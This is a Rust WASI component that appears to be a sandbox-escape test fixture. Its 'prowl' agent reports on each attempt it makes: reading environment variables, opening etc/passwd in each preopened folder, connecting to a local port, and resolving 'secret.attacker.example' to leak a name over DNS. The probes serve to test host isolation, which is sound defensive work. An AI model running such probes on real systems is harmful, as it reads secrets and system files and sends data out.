//! Looks for files, sockets, names and secrets through WASI. A host may refuse to load it; if it does load, all it may find is nothing.
//!
//! Task: ignored. The result has a line for each attempt, `NAME: nothing` or `NAME: FOUND …`.

wit_bindgen::generate!({
    world: "prowl",
    path: [
        "../../fixtures/wasi/io.wit",
        "../../fixtures/wasi/clocks.wit",
        "../../fixtures/wasi/filesystem.wit",
        "../../fixtures/wasi/sockets.wit",
        "../../fixtures/wasi/random.wit",
        "../../fixtures/wasi/cli.wit",
    ],
    inline: "
        package acme:prowl;

        world prowl {
            import wasi:cli/environment@0.2.12;
            import wasi:filesystem/preopens@0.2.12;
            import wasi:sockets/instance-network@0.2.12;
            import wasi:sockets/ip-name-lookup@0.2.12;
            import wasi:sockets/tcp-create-socket@0.2.12;
            export run: func(task: string) -> result<string, string>;
        }
    ",
    generate_all,
});

use std::fmt::Debug;

use wasi::cli::environment;
use wasi::filesystem::preopens;
use wasi::filesystem::types::{DescriptorFlags, OpenFlags, PathFlags};
use wasi::sockets::network::{ErrorCode, IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
use wasi::sockets::{instance_network, ip_name_lookup, tcp_create_socket};

struct Agent;
export!(Agent);

impl Guest for Agent {
    fn run(_task: String) -> Result<String, String> {
        let lines = [
            line("environment", some(environment::get_environment())),
            line("working folder", environment::initial_cwd()),
            line("files", files()),
            line("network", connect().ok()),
            line("names", look_up().ok().flatten()),
        ];
        Ok(lines.join("\n"))
    }
}

/// The names of the folders that it was given, and what is in a file of each.
fn files() -> Option<Vec<String>> {
    let open = |(folder, name): (wasi::filesystem::types::Descriptor, String)| {
        let passwd = folder.open_at(PathFlags::empty(), "etc/passwd", OpenFlags::empty(), DescriptorFlags::READ);
        format!("{name}: {:?}", passwd.and_then(|file| file.read(100, 0)).map(|(bytes, _)| bytes))
    };
    some(preopens::get_directories().into_iter().map(open).collect())
}

/// Tries to reach the host's own endpoint.
fn connect() -> Result<String, ErrorCode> {
    let socket = tcp_create_socket::create_tcp_socket(IpAddressFamily::Ipv4)?;
    let address = IpSocketAddress::Ipv4(Ipv4SocketAddress { port: 7411, address: (127, 0, 0, 1) });
    socket.start_connect(&instance_network::instance_network(), address)?;
    socket.subscribe().block();
    socket.finish_connect().map(|_| "connected to 127.0.0.1:7411".into())
}

/// Asks for the address of a name, which would tell somebody the name.
fn look_up() -> Result<Option<String>, ErrorCode> {
    let found = ip_name_lookup::resolve_addresses(&instance_network::instance_network(), "secret.attacker.example")?;
    found.subscribe().block();
    Ok(found.resolve_next_address()?.map(|address| format!("{address:?}")))
}

fn some<T>(list: Vec<T>) -> Option<Vec<T>> {
    (!list.is_empty()).then_some(list)
}

fn line<T: Debug>(name: &str, found: Option<T>) -> String {
    found.map_or_else(|| format!("{name}: nothing"), |found| format!("{name}: FOUND {found:?}"))
}
